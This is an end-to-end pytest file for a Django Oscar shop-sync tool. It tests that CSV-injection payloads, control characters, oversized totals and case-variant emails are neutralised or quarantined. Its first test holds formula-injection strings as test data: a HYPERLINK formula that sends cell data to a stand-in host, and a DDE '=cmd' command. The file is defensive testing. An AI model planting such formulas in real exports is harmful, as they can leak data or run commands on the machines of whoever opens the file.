"""End to end: bad data in a real Oscar shop is neutralised or quarantined, and never stops a sync.

Formula-like names (CSV injection), control characters, an over-refunded order, an order total
beyond the column's digits (Oscar's checkout on SQLite), and one shopper under two spellings of
their email: ``sync all`` drains, the platform gets safe values, a bad record is ``FAILED`` with
its reason, and everything else lands.
"""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from django.db import connection

from dotsync.cli import main
from dotsync.models import Contact, Order, SyncStatus
from dotsync.testing.shop import make_customer, make_product, place_order
from tests.e2e.conftest import run_sync
from tests.e2e.platform_view import view

pytestmark = pytest.mark.django_db(transaction=False)


def test_formula_names_are_neutralised_in_the_csv_and_its_archive(
    shop, sandbox, accounts, settings, django_capture_on_commit_callbacks
):
    store = shop.scope.main_en
    with django_capture_on_commit_callbacks(execute=True):
        mallory = make_customer(
            "mallory@example.com",
            '=HYPERLINK("http://x.example/?"&A1,"win")',
            "-2+3\x07" + ("\x00" if connection.vendor == "sqlite" else ""),  # PostgreSQL refuses NUL
            address={"line4": "@SUM(1+1)", "line1": "\t+tab"},
        )
        evil = make_product("Evil\x1b tee", "12.00", categories=["=cmd|' /C calc'!A0"])
        place_order(mallory, [(evil, 1)], store, status="processing", refunded="20.00")
    run_sync()

    main = view(sandbox, accounts["main"])
    fields = main.contacts["mallory@example.com"]["data_fields"]
    assert fields["FIRSTNAME"] == '\'=HYPERLINK("http://x.example/?"&A1,"win")'
    assert fields["LASTNAME"] == "'-2+3"  # neutralised, NUL and BEL stripped
    assert fields["MOST_PUR_CATEGORY"] == "'=cmd|' /C calc'!A0"
    assert fields["TOTAL_REFUND"] == pytest.approx(20.0)  # numbers stay numbers
    order = next(r["json"] for r in main.insight["Orders"].values() if r["email"] == "mallory@example.com")
    assert order["orderTotal"] == pytest.approx(12.00 + 4.95 - 20.00)  # over-refunded: negative
    assert order["products"][0]["name"] == "Evil tee"  # ESC stripped
    assert order["products"][0]["categories"] == ["=cmd|' /C calc'!A0"]  # JSON is not a spreadsheet

    archived = list(Path(settings.VAR_DIR, "export", "email", "archive").glob("*.csv"))
    assert archived
    text = "".join(p.read_text(encoding="utf-8") for p in archived)
    assert '"\'=HYPERLINK(""http://x.example/?""&A1,""win"")"' in text
    assert '"\'-2+3"' in text and "\x00" not in text and "\x07" not in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@", "\t")), line


@pytest.mark.skipif(
    connection.vendor != "sqlite", reason="PostgreSQL refuses the 13-digit total on write, so no read fails"
)
def test_a_total_beyond_the_column_is_quarantined_and_the_rest_syncs(
    shop, sandbox, accounts, django_capture_on_commit_callbacks
):
    store = shop.scope.main_en
    with django_capture_on_commit_callbacks(execute=True):
        whale = make_customer("whale@example.com", "Wes", "Whale")
        yacht = make_product("Yacht", "9999999999.99")
        # Oscar's own checkout: 9,999,999,999.99 + 4.95 shipping is 13 digits in a 12-digit column
        huge = place_order(whale, [(yacht, 1)], store, status="processing")
        fine = place_order(whale, [(shop.products["mug"], 1)], store, status="processing")
    summary = run_sync()
    assert summary["drained"]

    row = Order.objects.get(order_id=huge.pk)
    assert row.sync_status == SyncStatus.FAILED
    assert "total_incl_tax" in row.sync_message and "correct it in the shop" in row.sync_message
    main = view(sandbox, accounts["main"])
    assert str(huge.number) not in main.keys("Orders")
    assert str(fine.number) in main.keys("Orders")
    assert str(shop.orders["alice_en"].number) in main.keys("Orders")  # every other order still lands
    whale_fields = main.contacts["whale@example.com"]["data_fields"]
    assert whale_fields["NUMBER_OF_ORDERS"] == 1  # the unreadable order is left out of sales data
    assert whale_fields["TOTAL_SPEND"] == pytest.approx(float(fine.total_incl_tax))
    assert "alice@example.com" in main.contacts
    assert Contact.objects.get(email="whale@example.com").sync_status == SyncStatus.IMPORTED
    assert Decimal(str(whale_fields["TOTAL_SPEND"])) < Decimal("1e10")


def _one_contact(website: object, email: str) -> Contact:
    rows = list(Contact.objects.filter(website=website, email__iexact=email))
    assert len(rows) == 1, [r.email for r in rows]
    return rows[0]


def test_case_variant_emails_are_one_contact_with_sales_counted_once(
    shop, sandbox, request, django_capture_on_commit_callbacks
):
    scope = shop.scope
    mug = shop.products["mug"]
    # history (the install backfill): a customer and guest orders under three spellings
    foo = make_customer("Foo@Example.com", "Foo", "Fighter")
    first = place_order(foo, [(mug, 1)], scope.main_en, status="processing")
    second = place_order("foo@example.com", [(mug, 2)], scope.main_en, status="processing")
    third = place_order("FOO@EXAMPLE.COM", [(mug, 1)], scope.main_en, status="complete")
    accounts = request.getfixturevalue("accounts")  # configures the websites and backfills
    # live changes (the observers): a new customer whose guest order uses another spelling
    with django_capture_on_commit_callbacks(execute=True):
        zed = make_customer("zed@example.com", "Zed", "Zulu")
        place_order("Zed@Example.COM", [(mug, 1)], scope.main_en, status="processing")
        place_order(zed, [(mug, 1)], scope.main_en, status="processing")
    run_sync()

    website = scope.main_en.website
    foo_row = _one_contact(website, "foo@example.com")
    assert foo_row.email == "foo@example.com" and foo_row.customer_id == foo.pk and foo_row.is_guest
    assert foo_row.sync_status == SyncStatus.IMPORTED
    zed_row = _one_contact(website, "zed@example.com")
    assert zed_row.customer_id == zed.pk and zed_row.is_guest
    main = view(sandbox, accounts["main"])
    fields = main.contacts["foo@example.com"]["data_fields"]
    assert fields["NUMBER_OF_ORDERS"] == 3  # each order once, whatever its spelling
    spend = sum(o.total_incl_tax for o in (first, second, third))
    assert fields["TOTAL_SPEND"] == pytest.approx(float(spend))
    assert main.contacts["zed@example.com"]["data_fields"]["NUMBER_OF_ORDERS"] == 2
    for order in (first, second, third):
        assert str(order.number) in main.keys("Orders")
    assert not Order.objects.filter(sync_status=SyncStatus.FAILED).exists()
    assert not Contact.objects.filter(sync_status=SyncStatus.FAILED).exists()


@pytest.mark.skipif(
    connection.vendor != "sqlite", reason="PostgreSQL's LOWER() folds non-ASCII letters: no such rows there"
)
def test_rows_left_apart_by_case_are_merged_and_reported(scope):
    from dotsync.install.emails import merge_case_variants
    from dotsync.reporting import sync_summary

    website = scope.main_en.website
    # SQLite's LOWER() (and so its unique index) folds ASCII only: these two rows can both exist
    Contact.objects.create(website=website, email="Åsa@example.com", customer_id=7, is_subscriber=True)
    Contact.objects.create(website=website, email="åsa@example.com", is_guest=True, contact_id="42")
    Contact.objects.create(website=website, email="Ölaf@example.com", customer_id=8)
    Contact.objects.create(website=website, email="Åke@example.com", customer_id=9)
    Contact.objects.create(website=website, email="åke@example.com", customer_id=10)
    assert sync_summary()["emails"] == {"case_variants": 3}
    status = CliRunner().invoke(main, ["status", "--json"])
    assert json.loads(status.output)["emails"] == {"case_variants": 3}, status.output
    assert "3 contact rows keep an email in another case" in CliRunner().invoke(main, ["status"]).output

    report = merge_case_variants()
    assert (report.merged, report.renamed, len(report.conflicts)) == (2, 1, 1)
    assert "customer 10" in report.conflicts[0] and "@" not in report.conflicts[0]  # ids, no emails
    assert Contact.objects.get(email="åke@example.com").customer_id == 9  # the oldest row's
    row = Contact.objects.get(website=website, email="åsa@example.com")
    assert (row.customer_id, row.is_guest, row.is_subscriber, row.contact_id) == (7, True, True, "42")
    assert row.sync_status == SyncStatus.MODIFIED
    assert Contact.objects.filter(email="ölaf@example.com", customer_id=8).exists()
    assert sync_summary()["emails"] == {"case_variants": 0}
    assert merge_case_variants().as_dict() == {"merged": 0, "renamed": 0, "conflicts": []}


def test_the_database_refuses_a_second_spelling_of_a_contact(scope):
    from django.db import IntegrityError, transaction

    website = scope.main_en.website
    Contact.objects.create(website=website, email="sam@example.com")
    with pytest.raises(IntegrityError), transaction.atomic():
        Contact.objects.create(website=website, email="Sam@Example.com")  # a writer that forgot
